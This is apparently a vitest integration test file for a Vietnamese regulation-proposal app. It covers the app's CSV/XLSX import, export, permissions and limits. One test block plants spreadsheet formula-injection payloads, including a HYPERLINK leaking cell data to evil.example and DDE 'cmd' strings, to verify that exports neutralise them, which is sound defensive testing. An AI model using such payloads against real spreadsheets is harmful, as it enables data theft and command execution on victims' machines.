import fs from "node:fs";
import path from "node:path";
import ExcelJS from "exceljs";
import { sql } from "kysely";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { IMPORT_COLUMNS } from "~/services/import/layout";
import { PROJECT_ROOT } from "../support/database";
import { createUserWith, proposalFields, type TestUser } from "../support/factories";
import { client, decodeHtml, fieldError, mainContent, signedInOnce, type SignedIn, visibleText, type Client } from "../support/http";
import { startServer, type TestServer } from "../support/server";

// The import pages over HTTP on the demo data: upload → dry-run report → confirm, the template,
// who may import what, the file limits, and the round trip: a list exported as CSV or XLSX
// and imported back changes nothing, formula-like cells included.

let server: TestServer;
/** One sign-in per user for the whole file (tests/support/http.ts): these tests are not about sessions. */
let signedIn: SignedIn;
let admin: TestUser;
let officer: TestUser;
let otherOfficer: TestUser;
let viewer: TestUser;

beforeAll(async () => {
  server = await startServer({
    demo: { password: "demo-password-for-tests" },
    seed: async (db) => {
      admin = await createUserWith(db, { role: "admin", email: "import.admin@tinhgon.test" });
      officer = await createUserWith(db, { role: "officer", agencyCode: "BYT", email: "import.officer@tinhgon.test" });
      otherOfficer = await createUserWith(db, { role: "officer", agencyCode: "BYT", email: "import.officer2@tinhgon.test" });
      viewer = await createUserWith(db, { role: "viewer", email: "import.viewer@tinhgon.test" });
    },
  });
  signedIn = signedInOnce(server.url);
});

afterAll(async () => {
  await server?.stop();
});

async function eventCount(): Promise<number> {
  const row = await server.db().selectFrom("events").select((eb) => eb.fn.countAll<number>().as("n")).executeTakeFirstOrThrow();
  return Number(row.n);
}

/** Uploads a file and follows the redirect to its report; returns the report's path and text. */
async function upload(http: Client, name: string, bytes: Uint8Array): Promise<{ path: string; html: string }> {
  const response = await http.upload("/proposals/import", { name, bytes });
  expect(response.status).toBe(302);
  const path = response.headers.get("location") ?? "";
  expect(path).toMatch(/^\/proposals\/import\/\d+$/);
  return { path, html: decodeHtml(await (await http.get(path)).text()) };
}

function count(html: string, name: string): number {
  const match = new RegExp(`data-count="${name}"[^]*?<dd[^>]*>([\\d.,]+)</dd>`).exec(html);
  return Number((match?.[1] ?? "NaN").replace(/[.,]/g, ""));
}

describe("who may import", () => {
  test("a viewer may neither see the page nor post a file", async () => {
    const http = await signedIn(viewer);
    expect((await http.get("/proposals/import")).status).toBe(403);
    expect((await http.upload("/proposals/import", { name: "a.csv", bytes: new TextEncoder().encode("x") })).status).toBe(403);
    expect((await http.get("/proposals/import/template.xlsx")).status).toBe(403);
  });

  test("signed out, the page sends to the login", async () => {
    const response = await client(server.url).get("/proposals/import");
    expect(response.status).toBe(302);
    expect(response.headers.get("location")).toMatch(/^\/login/);
  });

  test("an upload is its uploader's: to another officer it is not there, to confirm or to read", async () => {
    const http = await signedIn(officer);
    const template = new Uint8Array(await (await http.get("/proposals/import/template.xlsx")).arrayBuffer());
    const { path } = await upload(http, "mau.xlsx", template);
    const other = await signedIn(otherOfficer);
    expect((await other.get(path)).status).toBe(404);
    expect((await other.post(path, { intent: "confirm" })).status).toBe(404);
  });
});

describe("the template", () => {
  test("has the layout's headers and an example row that imports as a new proposal of the officer's agency", async () => {
    const http = await signedIn(officer);
    const response = await http.get("/proposals/import/template.xlsx");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-disposition")).toContain("attachment");
    const bytes = new Uint8Array(await response.arrayBuffer());
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes.buffer as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(IMPORT_COLUMNS.map((column) => column.header));
    expect(workbook.worksheets[1]?.name).toBe("Hướng dẫn");

    const { html } = await upload(http, "mau.xlsx", bytes);
    expect(count(html, "new")).toBe(1);
    expect(count(html, "invalid")).toBe(0);
    expect(visibleText(html)).toContain("Xác nhận nhập");
  });
});

describe("cells a spreadsheet would run as formulas", () => {
  // planted through the proposal form and through an import, as an attacker would
  const planted = {
    title: '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    proposed_change: "+cmd|' /C calc'!A0",
    rationale: "@SUM(1+1)*cmd|' /C calc'!A0",
    source_provision: "-2+3+cmd|' /C calc'!A0",
  };
  const imported = {
    title: "@SUM(A1:A9)",
    proposed_change: "-2+3+cmd|' /C calc'!A0",
    rationale: "'=1+1 written with its apostrophe",
    provisions_to_amend: "=Điều 5",
  };
  let formCode: string;
  let importCode: string;

  beforeAll(async () => {
    const http = await signedIn(officer);
    const created = await http.post("/proposals/new", proposalFields("BYT", { ...planted, cost_before_vnd: "1.000.000", cost_after_vnd: "-0" }));
    expect(created.status).toBe(302);
    formCode = (created.headers.get("location") ?? "").replace("/proposals/", "");
    const rows = [
      IMPORT_COLUMNS.map((column) => column.header),
      IMPORT_COLUMNS.map(
        (column) =>
          ({
            agency: "BYT",
            regulation_type: "Thủ tục hành chính",
            action: "Bãi bỏ",
            documents_to_amend: "98/2021/NĐ-CP",
            ...imported,
            // the file's own apostrophe before a formula is a person's way to write text: it is not kept
            rationale: `'${imported.rationale}`,
          })[column.key as string] ?? "",
      ),
    ];
    const { path, html } = await upload(http, "cong-thuc.csv", new TextEncoder().encode(Papa.unparse(rows)));
    expect(count(html, "new")).toBe(1);
    expect((await http.post(path, { intent: "confirm" })).status).toBe(302);
    const stored = await server.db().selectFrom("proposals").select(["code", "title", "rationale"]).where("title", "=", imported.title).executeTakeFirstOrThrow();
    expect(stored.rationale).toBe(imported.rationale);
    importCode = stored.code;
  });

  test("the CSV export writes them as text: an apostrophe first, amounts still plain numbers", async () => {
    const http = await signedIn(admin);
    const text = (await (await http.get("/proposals/export.csv?agency=BYT")).text()).replace(/^\uFEFF/, "");
    const [header = [], ...rows] = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    const column = (name: string) => header.indexOf(IMPORT_COLUMNS.find((c) => c.key === name)?.header ?? name);
    const formRow = rows.find((row) => row[0] === formCode) ?? [];
    for (const [key, value] of Object.entries(planted)) expect(formRow[column(key)], key).toBe(`'${value}`);
    expect(formRow[column("cost_before_vnd")]).toBe("1000000");
    expect(formRow[column("cost_after_vnd")]).toBe("0");
    const importRow = rows.find((row) => row[0] === importCode) ?? [];
    expect(importRow[column("title")]).toBe(`'${imported.title}`);
    expect(importRow[column("proposed_change")]).toBe(`'${imported.proposed_change}`);
    expect(importRow[column("rationale")]).toBe(`''${imported.rationale.slice(1)}`);
    expect(importRow[column("provisions_to_amend")]).toBe(`'${imported.provisions_to_amend}`);
    // no text cell of the whole file starts a formula
    for (const row of rows) for (const cell of row) expect(cell, `${row[0]}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
  });

  test("the XLSX export writes them as string cells, which Excel shows as text and never runs", async () => {
    const http = await signedIn(admin);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await (await http.get("/proposals/export.xlsx?agency=BYT")).arrayBuffer());
    const sheet = workbook.worksheets[0]!;
    const headers = (sheet.getRow(1).values as unknown[]).slice(1);
    const column = (name: string) => headers.indexOf(IMPORT_COLUMNS.find((c) => c.key === name)?.header) + 1;
    let formRow: ExcelJS.Row | undefined;
    sheet.eachRow((row) => {
      if (row.getCell(1).value === formCode) formRow = row;
      row.eachCell((cell) => expect(cell.type, String(cell.address)).not.toBe(ExcelJS.ValueType.Formula));
    });
    for (const [key, value] of Object.entries(planted)) {
      const cell = formRow!.getCell(column(key));
      expect(cell.type, key).toBe(ExcelJS.ValueType.String);
      expect(cell.value, key).toBe(value);
    }
    expect(formRow!.getCell(column("cost_before_vnd")).value).toBe(1_000_000);
    // typed -0, stored and written as the number 0
    expect(Object.is(formRow!.getCell(column("cost_after_vnd")).value, 0)).toBe(true);
  });

  test("the errors CSV of an import writes a bad value that looks like a formula as text", async () => {
    const http = await signedIn(officer);
    const rows = [
      IMPORT_COLUMNS.map((column) => column.header),
      IMPORT_COLUMNS.map(
        (column) =>
          ({ agency: "BYT", regulation_type: "Thủ tục hành chính", title: "Quy định B", action: "Bãi bỏ", proposed_change: "Bỏ", cost_before_vnd: "=1+1" })[
            column.key as string
          ] ?? "",
      ),
    ];
    const { path } = await upload(http, "loi-cong-thuc.csv", new TextEncoder().encode(Papa.unparse(rows)));
    const csv = Papa.parse<string[]>((await (await http.get(`${path}/errors.csv`)).text()).replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;
    expect(csv[1]?.slice(0, 3)).toEqual(["2", "Chi phí tuân thủ trước (đồng/năm)", "'=1+1"]);
  });

  test.each(["csv", "xlsx"])("the proposal list exported as %s and imported back changes nothing", async (format) => {
    const http = await signedIn(admin);
    const exported = await http.get(`/proposals/export.${format}`);
    expect(exported.status).toBe(200);
    const bytes = new Uint8Array(await exported.arrayBuffer());
    const total = (await server.db().selectFrom("proposals").select((eb) => eb.fn.countAll<number>().as("n")).executeTakeFirstOrThrow()).n;
    const before = await eventCount();
    const { path, html } = await upload(http, `danh-sach.${format}`, bytes);
    expect(count(html, "unchanged")).toBe(Number(total));
    expect(count(html, "new") + count(html, "updated") + count(html, "invalid")).toBe(0);
    expect(visibleText(mainContent(html))).toContain("Không có gì để nhập");
    // nothing to confirm: a confirmation is refused and records no import
    expect((await http.post(path, { intent: "confirm" })).status).toBe(409);
    expect(await eventCount()).toBe(before);
  });

});

describe("what a report keeps", () => {
  /** A CSV in the import layout, one row per entry, each row's cells by column key. */
  function planCsv(rows: Record<string, string>[], extraHeaders: string[] = []): Uint8Array {
    const header = [...IMPORT_COLUMNS.map((column) => column.header), ...extraHeaders];
    const base: Record<string, string> = { agency: "BYT", regulation_type: "Thủ tục hành chính", title: "Quy định C", action: "Bãi bỏ", proposed_change: "Bỏ" };
    return new TextEncoder().encode(Papa.unparse([header, ...rows.map((row) => IMPORT_COLUMNS.map((column) => ({ ...base, ...row })[column.key] ?? ""))]));
  }

  async function storedReportBytes(path: string): Promise<number> {
    const id = Number(path.split("/").pop());
    const row = await server.db().selectFrom("imports").select(sql<number>`octet_length(report)`.as("bytes")).where("id", "=", id).executeTakeFirstOrThrow();
    return Number(row.bytes);
  }

  test("a huge bad value, header or code is kept as its first 200 characters and an ellipsis", async () => {
    const http = await signedIn(officer);
    const title = `Quy định rất dài ${"và dài ".repeat(300_000)}`;
    const code = `X${"9".repeat(100_000)}`;
    const header = `Cột lạ ${"ghi chú ".repeat(20_000)}`;
    const { path } = await upload(http, "o-rat-dai.csv", planCsv([{ title, code }], [header]));
    expect(await storedReportBytes(path)).toBeLessThan(20_000);

    const response = await http.get(path);
    const html = decodeHtml(await response.text());
    expect(html.length).toBeLessThan(200_000);
    const text = visibleText(mainContent(html));
    expect(text).toContain(`${title.slice(0, 200)}…`);
    expect(text).toContain(`${code.slice(0, 200)}…`);
    expect(text).toContain(`Cột “${header.slice(0, 200)}…” không thuộc mẫu nên được bỏ qua.`);
    expect(text).not.toContain(title.slice(0, 201));

    const csv = Papa.parse<string[]>((await (await http.get(`${path}/errors.csv`)).text()).replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;
    expect(csv.find((line) => line[1] === "Nội dung quy định")?.[2]).toBe(`${title.slice(0, 200)}…`);
  });

  test("errors are listed 100 to a page, with plain links between pages; the errors CSV lists them all", async () => {
    const http = await signedIn(officer);
    const rows = Array.from({ length: 250 }, (_, index) => ({ title: `Quy định số ${index + 1}`, cost_before_vnd: `sai-${index + 1}` }));
    const { path, html } = await upload(http, "nhieu-loi.csv", planCsv(rows));
    expect(count(html, "invalid")).toBe(250);
    const issueRows = (page: string) => [...page.matchAll(/data-issue-row="(\d+)"/g)].map((match) => Number(match[1]));
    expect(issueRows(html)).toEqual(Array.from({ length: 100 }, (_, index) => index + 2));
    expect(visibleText(mainContent(html))).toContain("Lỗi 1–100 trên tổng số 250.");
    expect(html).toContain(`href="${path}?page=2"`);
    // the page carries only its own errors, in its HTML and in the data it hydrates from
    expect(html).not.toContain("sai-101");

    const last = decodeHtml(await (await http.get(`${path}?page=3`)).text());
    expect(issueRows(last)).toEqual(Array.from({ length: 50 }, (_, index) => index + 202));
    expect(visibleText(mainContent(last))).toContain("Lỗi 201–250 trên tổng số 250.");
    expect(last).toContain(`href="${path}?page=2"`);
    for (const page of ["4", "0", "abc", "-1"]) expect((await http.get(`${path}?page=${page}`)).status, page).toBe(404);

    const csv = Papa.parse<string[]>((await (await http.get(`${path}/errors.csv`)).text()).replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;
    expect(csv).toHaveLength(251);
  });

  test("a user's imports hold at most 60 MB: finished reports give up their lists first, then an upload that cannot fit is refused", async () => {
    const user = await createUserWith(server.db(), { role: "officer", agencyCode: "BYT", email: "import.storage@tinhgon.test" });
    const http = await signedIn(user);
    const db = server.db();
    const now = new Date().toISOString();
    const MB = 1024 * 1024;
    const stage = (bytes: number) =>
      db.insertInto("imports").values({ actor_id: user.id, file_name: "cho.xlsx", file_sha256: "0", file_size: bytes, file: Buffer.alloc(bytes), status: "staged", created_at: now, report: null }).execute();
    // a committed import of a big file: its report lists 250,000 rows (about 12 MB)
    const outcomes = Array.from({ length: 250_000 }, (_, index) => ({ row: index + 2, code: "BYT-0001", outcome: "unchanged" }));
    const bigReport = { fileName: "lon.xlsx", format: "xlsx", sheetName: null, fileError: null, rows: outcomes.length, counts: { new: 0, updated: 0, unchanged: outcomes.length, invalid: 0 }, outcomes, errors: [], errorCount: 0, notes: [], committed: true };
    const committed = await db
      .insertInto("imports")
      .values({ actor_id: user.id, file_name: "lon.xlsx", file_sha256: "0", file_size: 1, file: null, status: "committed", created_at: now, committed_at: now, report: JSON.stringify(bigReport), unchanged_count: outcomes.length })
      .returning("id")
      .executeTakeFirstOrThrow();
    await stage(25 * MB);
    await stage(25 * MB);

    // 50 MB await confirmation and 12 MB of an old report: a small upload fits once the old report gives up its rows
    await upload(http, "nho.csv", planCsv([{ title: "Quy định nhỏ" }]));
    const old = visibleText(mainContent(await (await http.get(`/proposals/import/${committed.id}`)).text()));
    expect(old).toContain("không còn được lưu");
    expect(count(decodeHtml(await (await http.get(`/proposals/import/${committed.id}`)).text()), "unchanged")).toBe(250_000);
    expect(await storedReportBytes(`/proposals/import/${committed.id}`)).toBeLessThan(10_000);

    // with 75 MB awaiting confirmation, nothing more fits: the upload is refused beside the field
    await stage(25 * MB);
    const before = await db.selectFrom("imports").select(({ fn }) => fn.countAll<number>().as("n")).where("actor_id", "=", user.id).executeTakeFirstOrThrow();
    const refused = await http.upload("/proposals/import", { name: "them.csv", bytes: planCsv([{ title: "Quy định thêm" }]) });
    expect(refused.status).toBe(422);
    expect(fieldError(await refused.text(), "file")).toBe(
      "Các tệp đang chờ xác nhận của bạn đã dùng gần hết 60 MB được phép lưu. Hãy xác nhận hoặc hủy bớt các tệp đó rồi tải lên tệp này.",
    );
    const after = await db.selectFrom("imports").select(({ fn }) => fn.countAll<number>().as("n")).where("actor_id", "=", user.id).executeTakeFirstOrThrow();
    expect(after.n).toBe(before.n);
  });
});

describe("upload, check, confirm", () => {
  test("a file with errors shows each with its row, column, value and message, offers no confirmation and writes nothing", async () => {
    const http = await signedIn(officer);
    const rows = [
      IMPORT_COLUMNS.map((column) => column.header),
      IMPORT_COLUMNS.map((column) =>
        ({ agency: "BYT", regulation_type: "Thủ tục hành chính", title: "Quy định A", action: "Bãi bỏ", proposed_change: "Bỏ", cost_before_vnd: "mười triệu" })[column.key as string] ?? "",
      ),
    ];
    const before = await eventCount();
    const { path, html } = await upload(http, "loi.csv", new TextEncoder().encode(Papa.unparse(rows)));
    expect(count(html, "invalid")).toBe(1);
    const text = visibleText(mainContent(html));
    expect(text).toContain("Có 1 dòng lỗi. Không dữ liệu nào được ghi");
    expect(html).toMatch(/data-issue-row="2" data-issue-column="cost_before_vnd"/);
    expect(text).toContain("mười triệu");
    expect(text).toContain("Số tiền không hợp lệ: chỉ nhập số nguyên, ví dụ 1.250.000.000.");
    expect(html).not.toContain('value="confirm"');
    // every error, also as CSV for fixing the file in a spreadsheet
    const csv = await http.get(`${path}/errors.csv`);
    expect(csv.headers.get("content-type")).toContain("text/csv");
    expect(Papa.parse<string[]>((await csv.text()).replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data).toEqual([
      ["Dòng", "Cột", "Giá trị", "Lỗi"],
      ["2", "Chi phí tuân thủ trước (đồng/năm)", "mười triệu", "Số tiền không hợp lệ: chỉ nhập số nguyên, ví dụ 1.250.000.000."],
    ]);
    expect((await (await signedIn(otherOfficer)).get(`${path}/errors.csv`)).status).toBe(404);
    // a confirmation posted anyway runs the check again and still writes nothing
    expect((await http.post(path, { intent: "confirm" })).status).toBe(302);
    expect(await eventCount()).toBe(before);

    // the same report in English on request
    http.setCookie("tg_lang", "en");
    const english = visibleText(mainContent(await (await http.get(path)).text()));
    expect(english).toContain("Not a valid amount: whole numbers only, e.g. 1.250.000.000.");
  });

  test("a file over 20 MB is refused next to the field before anything is read", async () => {
    const http = await signedIn(officer);
    const response = await http.upload("/proposals/import", { name: "lon.csv", bytes: new Uint8Array(20 * 1024 * 1024 + 1) });
    expect(response.status).toBe(422);
    expect(fieldError(await response.text(), "file")).toBe("Tệp lớn hơn 20 MB. Hãy chia thành nhiều tệp nhỏ hơn.");
  });

  test("a file that is not a spreadsheet gets a clear message", async () => {
    const http = await signedIn(officer);
    const { html } = await upload(http, "anh.png", new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1, 2, 3]));
    expect(visibleText(mainContent(html))).toContain("Tệp này không phải là bảng tính XLSX hoặc CSV.");
  });

  test("the sample plan the demo was made from imports into it unchanged", async () => {
    const http = await signedIn(admin);
    const bytes = new Uint8Array(fs.readFileSync(path.join(PROJECT_ROOT, "db/seed/data/sample-plan.csv")));
    const { html } = await upload(http, "sample-plan.csv", bytes);
    expect(count(html, "unchanged")).toBe(12);
    expect(count(html, "new") + count(html, "updated") + count(html, "invalid")).toBe(0);
  });

  test("a plan that changes nothing says there is nothing to import, offers no confirmation, and a confirmation posted anyway is refused", async () => {
    const bytes = new Uint8Array(fs.readFileSync(path.join(PROJECT_ROOT, "db/seed/data/sample-plan.csv")));
    const imports = async () =>
      Object.fromEntries(
        (await server.db().selectFrom("imports").select(["id", "status"]).orderBy("id").execute()).map((row) => [row.id, row.status]),
      );
    for (const [language, nothing, refusal, confirm] of [
      ["vi", "Không có gì để nhập: mọi dòng của tệp đều đã giống dữ liệu hiện có, nên không có gì để xác nhận.", "Không có gì để nhập: mọi dòng của tệp đều đã giống dữ liệu hiện có. Không dữ liệu nào được ghi.", "Xác nhận nhập"],
      ["en", "Nothing to import: every row of the file is already as the current data has it, so there is nothing to confirm.", "Nothing to import: every row of the file is already as the current data has it. Nothing was written.", "Confirm import"],
    ] as const) {
      const http = await signedIn(admin);
      http.setCookie("tg_lang", language);
      const { path: report, html } = await upload(http, "sample-plan.csv", bytes);
      expect(count(html, "unchanged")).toBe(12);
      const main = mainContent(html);
      expect(visibleText(main)).toContain(nothing);
      expect(main).not.toContain('value="confirm"');
      expect(visibleText(main)).not.toContain(confirm);

      const before = { imports: await imports(), events: await eventCount() };
      const forced = await http.post(report, { intent: "confirm" });
      expect(forced.status).toBe(409);
      const answer = mainContent(await forced.text());
      expect(visibleText(/<div\b[^>]*\bdata-error-summary=""[\s\S]*?<\/div>/.exec(answer)?.[0] ?? "")).toContain(refusal);
      expect(answer).not.toContain('value="confirm"');
      // nothing stored: no import committed, no event, the upload still awaiting its uploader
      expect(await imports()).toEqual(before.imports);
      expect(await eventCount()).toBe(before.events);
    }
  });

  test("confirming writes the rows, names the import in their history, and a second confirmation is refused", async () => {
    const http = await signedIn(officer);
    const rows = [
      IMPORT_COLUMNS.map((column) => column.header),
      IMPORT_COLUMNS.map((column) =>
        ({
          agency: "BYT",
          regulation_type: "Chế độ báo cáo",
          title: "Báo cáo định kỳ về tình hình kinh doanh thiết bị y tế",
          action: "Bãi bỏ",
          proposed_change: "Bãi bỏ báo cáo định kỳ; khai thác dữ liệu từ hệ thống",
          documents_to_amend: "98/2021/NĐ-CP",
          provisions_to_amend: "Điều 70",
        })[column.key as string] ?? "",
      ),
    ];
    const { path, html } = await upload(http, "bao-cao.csv", new TextEncoder().encode(Papa.unparse(rows)));
    expect(count(html, "new")).toBe(1);
    const code = /data-outcome="new"[^]*?<td[^>]*>\d+<\/td><td[^>]*>([^<]+)<\/td>/.exec(html)?.[1] ?? "";
    expect(code).toMatch(/^BYT-\d{4}$/);
    expect(await server.db().selectFrom("proposals").select("id").where("code", "=", code).executeTakeFirst()).toBeUndefined();

    expect((await http.post(path, { intent: "confirm" })).status).toBe(302);
    const done = visibleText(mainContent(await (await http.get(path)).text()));
    expect(done).toContain("Đã ghi 1 phương án mới và 0 cập nhật");
    const page = visibleText(mainContent(await (await http.get(`/proposals/${code}`)).text()));
    expect(page).toContain("Báo cáo định kỳ về tình hình kinh doanh thiết bị y tế");
    expect(page).toContain("Nhập từ tệp “bao-cao.csv”");
    expect(page).toContain("98/2021/NĐ-CP");

    const again = await http.post(path, { intent: "confirm" });
    expect(again.status).toBe(409);
    expect(visibleText(await again.text())).toContain("Tệp này đã được nhập hoặc đã hủy.");
  });
});
